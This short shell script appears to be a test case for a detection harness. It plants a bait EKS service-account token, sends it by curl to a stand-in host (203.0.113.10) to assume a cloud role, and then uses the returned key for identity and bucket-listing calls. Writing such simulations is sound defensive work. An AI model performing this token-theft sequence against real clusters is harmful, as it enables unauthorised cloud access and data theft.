#!/bin/sh
. /opt/case/case.sh

d=/run/secrets/eks.amazonaws.com/serviceaccount; mkdir -p $d
echo eyJhbGciOiJSUzI1NiJ9.bait.bait >$d/token
printf 'AWS_ROLE_ARN=arn:aws:iam::1:role/shop\nAWS_WEB_IDENTITY_TOKEN_FILE=%s/token\n' $d >/tmp/env
. /tmp/env
curl -s -o /tmp/c "http://203.0.113.10/credentials?Action=AssumeRoleWithWebIdentity&RoleArn=$AWS_ROLE_ARN&WebIdentityToken=$(cat "$AWS_WEB_IDENTITY_TOKEN_FILE")"
key=$(sed 's/.*AccessKeyId": "\([A-Z0-9]*\).*/\1/' /tmp/c)
curl -s "http://203.0.113.10/?Action=GetCallerIdentity&Key=$key" >/dev/null
curl -s "http://203.0.113.10/?Action=ListBuckets&Key=$key" | grep -q ok
took_place
